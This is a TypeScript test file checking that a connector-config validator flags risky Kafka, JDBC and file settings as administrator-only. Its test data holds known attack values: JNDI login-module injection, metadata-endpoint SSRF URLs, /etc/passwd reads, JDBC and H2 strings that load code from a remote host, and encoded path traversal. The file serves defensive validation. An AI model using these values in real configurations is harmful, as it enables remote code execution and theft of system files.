import { expect, test } from "vitest";
import { riskyConfig } from "@/lib/connectors/risky-config";

const risk = (config: Record<string, string>, folders: string[] = []) =>
  riskyConfig(config, {}, folders).map(({ key }) => key);

test.each([
  ["producer.override.sasl.mechanism", "PLAIN"],
  ["consumer.override.sasl.jaas.config", "org.apache.kafka.common.security.plain.PlainLoginModule required;"],
  ["admin.override.sasl.login.callback.handler.class", "x.Y"],
  ["database.history.producer.sasl.jaas.config", 'com.sun.security.auth.module.JndiLoginModule required user="x";'],
  [
    "x.sasl.jaas.config",
    'org.apache.kafka.common.security.plain.PlainLoginModule required a=";"; com.sun.security.auth.module.JndiLoginModule required;',
  ],
  ["x.sasl.oauthbearer.token.endpoint.url", "http://169.254.169.254/"],
  ["x.sasl.oauthbearer.jwks.endpoint.url", "file:///etc/passwd"],
  [
    "connection.url",
    "jdbc:postgresql://h/d?socketFactory=org.x.ClassPathXmlApplicationContext&socketFactoryArg=http://e",
  ],
  ["connection.url", "jdbc:mysql://h/d?allowLoadLocalInfile=true"],
  ["connection.url", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://e'"],
  ["driver.socketFactory", "org.x.ClassPathXmlApplicationContext"],
  ["file", "/etc/passwd"],
  ["file", "passwd"],
  ["database.ssl.truststore.location", "/etc/x.jks"],
  ["warehouse", "file:///etc"],
  ["topic", "\u0024{file:/etc/passwd:root}"],
  ["topic", "\u0024{directory:/etc:passwd}"],
])("%s = %s is for administrators", (key, value) => {
  expect(risk({ [key]: value })).toEqual([key]);
});

test.each([
  ["topics", "orders"],
  ["connection.url", "jdbc:postgresql://h:5432/shop?ssl=true"],
  [
    "x.sasl.jaas.config",
    'org.apache.kafka.common.security.scram.ScramLoginModule required username="a" password="b;c";',
  ],
  ["x.sasl.jaas.config", "\u0024{vault:kafka:jaas}"],
  ["consumer.override.isolation.level", "read_committed"],
  ["iceberg.catalog.warehouse", "s3://lake/warehouse"],
  ["transforms.route.regex", "/.*"],
])("%s = %s is for any editor", (key, value) => {
  expect(risk({ [key]: value })).toEqual([]);
});

test("files are named in the allowed folders only, whatever dots and encodings lead out of them", () => {
  const folders = ["/data/in"];
  expect(risk({ file: "/data/in/a.txt" }, folders)).toEqual([]);
  expect(risk({ warehouse: "file:///data/in/w" }, folders)).toEqual([]);
  expect(risk({ file: "/data/in/../../etc/passwd" }, folders)).toEqual(["file"]);
  expect(risk({ file: "/data/inside.txt" }, folders)).toEqual(["file"]);
  expect(risk({ warehouse: "file:///data/in/%2e%2e/%2e%2e/etc" }, folders)).toEqual(["warehouse"]);
});

test("what an administrator wrote stays when somebody else edits the rest", () => {
  const former = { file: "/etc/motd" };
  expect(riskyConfig({ file: "/etc/motd", topic: "b" }, former, [])).toEqual([]);
  expect(riskyConfig({ file: "/etc/passwd" }, former, [])).toHaveLength(1);
});
